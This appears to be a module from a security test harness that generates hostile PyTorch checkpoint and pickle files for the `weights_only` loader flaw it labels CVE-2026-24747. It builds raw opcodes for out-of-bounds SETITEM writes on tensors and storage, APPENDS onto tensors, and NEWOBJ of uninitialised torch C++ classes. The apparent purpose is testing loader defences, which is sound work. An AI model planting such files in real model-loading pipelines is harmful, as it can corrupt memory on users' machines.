"""Opcodes of containers used on tensors and their memory, and objects of extension types that
nothing has initialised: what `weights_only` let pass in torch before 2.10 (CVE-2026-24747), and
what has been reported since.
"""

from __future__ import annotations

from typing import Any

from harness.hostile import Family
from harness.hostile.archives import tensor, torch_zip
from harness.hostile.opcodes import Global, Raw, Storage, pickled, push
from harness.records.trials import Harm

onto = Family("onto-tensors", "torch-zip", Harm.LIE)

_FAR = 1 << 40
_MEMORY = Storage(("storage", Global("torch", "FloatStorage"), "0", "cpu", 6))


def _set(target: Any, key: Any, value: Any) -> Raw:
    """Return SETITEM of one key on a value."""
    return Raw(push(target) + push(key) + push(value) + b"s")


def _set_many(target: Any, *pairs: Any) -> Raw:
    """Return SETITEMS of keys with their values on a value."""
    return Raw(push(target) + b"(" + b"".join(map(push, pairs)) + b"u")


def _append(target: Any, *values: Any) -> Raw:
    """Return APPENDS of values to a value."""
    return Raw(push(target) + b"(" + b"".join(map(push, values)) + b"e")


def _new(module: str, name: str) -> Raw:
    """Return NEWOBJ of a class without arguments, and no BUILD behind it."""
    return Raw(push(Global(module, name)) + push(()) + b"\x81")


onto.table(
    "{}.bin",
    (
        ("setitem-tensor-beyond", "SETITEM far behind a tensor's end", _set(tensor(), _FAR, 1.0)),
        ("setitem-tensor-before", "SETITEM far before a tensor", _set(tensor(), -_FAR, 1.0)),
        ("setitems-tensor", "SETITEMS on a tensor", _set_many(tensor(), 0, 1.0, _FAR, 2.0)),
        ("setitem-memory", "SETITEM on the memory of a tensor", _set(_MEMORY, _FAR, 1.0)),
        ("appends-tensor", "APPENDS to a tensor", _append(tensor(), 1.0, 2.0)),
        ("appends-memory", "APPENDS to the memory of a tensor", _append(_MEMORY, 1.0, 2.0)),
        ("newobj-graph", "NEWOBJ of a class of torch's C++ side", _new("torch._C", "Graph")),
        ("newobj-tensor", "NEWOBJ of a tensor's class", _new("torch", "FloatTensor")),
        ("newobj-memory", "NEWOBJ of the class of memory", _new("torch", "UntypedStorage")),
    ),
    lambda value: torch_zip({"a": value}),
)
bare = Family("onto-tensors", "pickle", Harm.LIE)
bare.table(
    "{}.pkl",
    (("newobj-graph", "NEWOBJ of a class of torch's C++ side", _new("torch._C", "Graph")),),
    pickled,
)
